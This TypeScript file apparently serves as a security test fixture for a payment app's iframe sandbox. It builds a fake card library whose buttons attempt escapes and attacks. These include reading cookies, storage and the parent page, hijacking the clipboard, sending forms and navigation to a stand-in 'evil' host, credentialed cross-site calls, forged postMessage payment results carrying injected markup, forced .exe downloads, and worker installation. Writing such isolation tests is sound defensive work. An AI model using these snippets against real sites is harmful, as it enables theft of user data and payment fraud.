import { ATTEMPTS } from './hostileActs.ts'

/** What a hostile card library tries, each at a click, so that a browser takes it for the user's wish. */
export const LIBRARY_ACTS = [
  'read-page',
  'reach-bridge',
  'read-cookies',
  'read-storage',
  'take-clipboard',
  'call-app',
  'leave',
  'open-window',
  'download',
  'install-worker',
  'forge-port',
  'find-secrets',
  'frame-app',
  'hold-processor'
] as const

export type LibraryAct = (typeof LIBRARY_ACTS)[number]

interface LibraryAddresses {
  /** Of the isolated window's page, as its document says. */
  readonly page: string
  /** Of the app's page, with a session in the same browser. */
  readonly app: string
  /** Of a server that is to see no request. */
  readonly evil: string
}

/**
 * The library: it mounts, as the interface says, and with it a button for each attempt. What an attempt says of itself
 * stands in `data-said` of the document.
 */
export function hostileLibrary(addresses: LibraryAddresses): string {
  return `'use strict';
{ const { page, app, evil } = ${JSON.stringify(addresses)}, names = ${JSON.stringify(LIBRARY_ACTS)};${SCRIPT} }`
}

const SCRIPT = `${ATTEMPTS}const link = (fields) => { add('a', { href: evil + '/link', ...fields }).click(); return 'clicked' }
const post = (to, fields = {}) => { add('form', { method: 'post', action: evil + '/form', target: to, ...fields }).submit(); return 'sent' }
const loads = (name, src) => new Promise((done, fail) => add(name, { src, onload: () => done('loaded'), onerror: () => fail({ name: 'not loaded' }) }))

// The document of the component has its port by now; whoever runs in it can get hold of that.
let port
const send = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...given) { port = this; return send.apply(this, given) }

const acts = {
  'read-page': async () => {
    for (const name of ['document', 'frames', 'name']) await attempt(name, () => must(parent[name] && parent[name].body && parent[name].body.innerHTML))
    await attempt('change', () => { parent.document.body.textContent = 'gone' })
    await attempt('frame', () => must(window.frameElement && 'an element'))
    await attempt('script', () => { parent.eval('document.title = "mine"') })
  },
  'reach-bridge': async () => {
    await attempt('own', () => must(window.bridge))
    await attempt('parent', () => must(parent.bridge))
    await attempt('node', () => must(globalThis.process || globalThis.require))
    await attempt('electron', () => must(globalThis.electron || globalThis.ipcRenderer))
    await attempt('opener', () => must(top.opener && top.opener.location.href))
  },
  'read-cookies': async () => {
    await attempt('own', () => must(document.cookie))
    await attempt('parent', () => must(parent.document.cookie))
    await attempt('store', async () => must((await cookieStore.getAll()).map(({ name }) => name).join()))
  },
  'read-storage': async () => {
    await attempt('parent', () => must(parent.localStorage.length))
    await attempt('own', () => must(localStorage.length + sessionStorage.length))
    await attempt('databases', async () => must((await indexedDB.databases()).map(({ name }) => name).join()))
    await attempt('caches', async () => must((await caches.keys()).join()))
    await attempt('channel', () => new Promise((done) => { const all = new BroadcastChannel('tallydesk'); all.onmessage = ({ data }) => done(data); all.postMessage('hello') }))
  },
  'take-clipboard': async () => {
    await attempt('write', async () => { await navigator.clipboard.writeText('EVIL'); return 'written' })
    await attempt('read', () => navigator.clipboard.readText())
    await attempt('paste', () => { if (!document.execCommand('paste')) throw { name: 'refused' }; return 'read' })
    await attempt('copy', () => {
      document.addEventListener('copy', (event) => { event.preventDefault(); event.clipboardData.setData('text/plain', 'EVIL') }, { once: true })
      return document.execCommand('copy')
    })
  },
  'call-app': async () => {
    const call = (mode) => fetch(app + '/call/app.get', { method: 'POST', mode, credentials: 'include', headers: { 'content-type': mode === 'cors' ? 'application/json' : 'text/plain' }, body: '{}' })
    await attempt('cors', async () => (await call('cors')).text())
    await attempt('no cors', async () => (await call('no-cors')).type)
    await attempt('beacon', () => { if (!navigator.sendBeacon(app + '/call/app.get', '{}')) throw { name: 'refused' }; return 'queued' })
    add('iframe', { name: 'inner' })
    await attempt('form', () => post('inner', { action: app + '/call/app.get' }))
    await attempt('script', () => loads('script', app + '/call/app.get'))
    await attempt('picture', () => loads('img', app + '/'))
    await attempt('events', () => new Promise((done, fail) => { const all = new EventSource(app + '/events', { withCredentials: true }); all.onopen = () => done('open'); all.onerror = () => fail({ name: 'refused' }) }))
    await attempt('socket', () => new Promise((done, fail) => { const all = new WebSocket(app.replace('http', 'ws')); all.onopen = () => done('open'); all.onerror = () => fail({ name: 'refused' }) }))
    await attempt('stage', async () => (await fetch(page + '/page/x/confirm', { method: 'POST', mode: 'no-cors', body: '{}' })).type)
  },
  'leave': async () => {
    await attempt('location', () => { top.location = evil + '/top' })
    await attempt('replace', () => parent.location.replace(evil + '/replace'))
    for (const to of ['_top', '_parent']) {
      await attempt('link', () => link({ target: to }))
      await attempt('form', () => post(to))
      await attempt('name', () => must(window.open(evil + '/name', to)))
    }
    await attempt('back', () => history.go(-5))
  },
  'open-window': async () => {
    await attempt('window', () => must(window.open(evil + '/window')))
    await attempt('link', () => link({ target: '_blank' }))
    await attempt('form', () => post('_blank'))
    await attempt('alert', () => alert('Your card is blocked'))
    await attempt('print', () => print())
  },
  'download': async () => {
    await attempt('link', () => link({ href: URL.createObjectURL(new Blob(['x'])), download: 'a.exe' }))
    await attempt('data', () => link({ href: 'data:application/octet-stream,x', download: 'b.exe' }))
    await attempt('file', async () => (await window.showSaveFilePicker()).name)
  },
  'install-worker': async () => {
    for (const script of ['component.js', '/', location.pathname]) await attempt('service worker', async () => (await navigator.serviceWorker.register(script)).scope)
    await attempt('shared worker', () => new Promise((done, fail) => { const all = new SharedWorker('component.js'); all.onerror = () => fail({ name: 'refused' }); all.port.onmessage = () => done('runs') }))
    await attempt('worklet', async () => { await CSS.paintWorklet.addModule(evil + '/worklet.js'); return 'runs' })
  },
  'forge-port': async () => {
    add('div', { style: 'height:1px' })
    const markup = '<img src=x onerror="document.title=1"><b id="injected">paid</b>'
    const { port1, port2 } = new MessageChannel()
    parent.postMessage('tallydesk.port', '*', [port2])
    for (const through of [port, port1].filter(Boolean)) {
      for (const message of [
        'done', null, [], { type: 'succeeded' }, { type: 'confirm', id: 1, token: 'x', save: true }, { type: 'news', state: 'succeeded', proof: markup },
        { type: 'result', id: 1, text: '{"status":"succeeded"}' }, { type: 'result', id: 0, text: markup }, { type: 'result', id: 99, text: markup },
        { type: 'height', height: 1e9 }, { type: 'height', height: -1 }, { type: 'mounted', __proto__: { state: 'succeeded' } }
      ]) send.call(through, message)
    }
    await new Promise((done) => setTimeout(done, 300))
  },
  'find-secrets': async () => {
    await attempt('path', () => must(top.location.href))
    await attempt('referrer', () => must(document.referrer))
    await attempt('parents', () => must([...location.ancestorOrigins].join()))
    await attempt('document', () => document.documentElement.outerHTML)
    await attempt('requests', () => performance.getEntries().map(({ name }) => name).join())
    await attempt('history', () => JSON.stringify(history.state) + history.length)
    await attempt('frames', () => Object.keys(parent).join())
    await attempt('page', async () => (await fetch(page + '/')).text())
  },
  'frame-app': async () => {
    for (const src of [app + '/', page + '/', page + '/card/x', 'about:blank']) add('iframe', { src })
    await attempt('embed', () => loads('embed', app + '/'))
    await new Promise((done) => setTimeout(done, 500))
  },
  'hold-processor': async () => { const end = Date.now() + 4000; while (Date.now() < end); tell('until', Date.now()) }
}

globalThis.Service3D = () => ({
  components: () => ({ get: (_name, _theme, container) => ({ mount() {
    for (const name of names) {
      const button = container.appendChild(Object.assign(document.createElement('button'), { id: name, textContent: name }))
      button.onclick = async () => {
        said.length = 0
        await acts[name]()
        document.body.dataset.said = said.join('\\n')
        document.body.dataset.done = name
      }
    }
  } }) }),
  confirmPaymentMethod: () => new Promise(() => undefined)
})
`
